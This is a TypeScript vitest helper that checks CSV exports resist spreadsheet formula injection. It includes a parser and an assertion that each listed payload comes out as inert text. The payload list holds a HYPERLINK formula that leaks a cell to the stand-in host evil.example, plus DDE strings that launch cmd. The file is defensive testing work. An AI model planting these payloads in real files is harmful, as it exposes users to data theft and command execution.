import { expect } from 'vitest';

/**
 * Names a spreadsheet would run as formulas if a CSV wrote them as they are (issue 29: OWASP's CSV
 * injection) — each must come out of every export as text.
 */
export const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '-1+1',
  ' =1+1',
  '\t=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
] as const;

/** The cells of an RFC 4180 CSV text (BOM, quoted cells with "" and line breaks inside). */
export function csvCells(csv: string): string[][] {
  const rows: string[][] = [[]];
  const text = csv.replace(/^\uFEFF/, '');
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      rows.at(-1)!.push(cell);
      cell = '';
    }
    else if (char === '\r' && text[i + 1] === '\n') {
      rows.at(-1)!.push(cell);
      cell = '';
      rows.push([]);
      i += 1;
    } else cell += char;
  }
  if (cell !== '' || rows.at(-1)!.length > 0) rows.at(-1)!.push(cell);
  if (rows.at(-1)!.length === 0) rows.pop();
  return rows;
}

const PLAIN_NUMBER = /^-?(\d+\.?\d*|\.\d+)(e[-+]?\d+)?$/i;
// What a spreadsheet may start a formula with, after any spaces or control characters it trims.
const STARTS_A_FORMULA = /^[\s\p{Cc}]*[=+\-@＝＋－＠]/u;

/**
 * Expects no cell of the CSV to read as a formula (a plain number such as -0.02 is a number, not a
 * formula) and each of `names` to be in it, as text behind a single quote.
 */
export function expectFormulaSafe(csv: string, names: readonly string[] = FORMULA_NAMES): void {
  const cells = csvCells(csv).flat();
  for (const cell of cells) {
    if (PLAIN_NUMBER.test(cell)) continue;
    expect(STARTS_A_FORMULA.test(cell) || /^[\t\r\n]/.test(cell), `cell ${JSON.stringify(cell)}`).toBe(false);
  }
  for (const name of names) expect(cells.some((cell) => cell.includes(name)), `${JSON.stringify(name)} is in the CSV`).toBe(true);
}
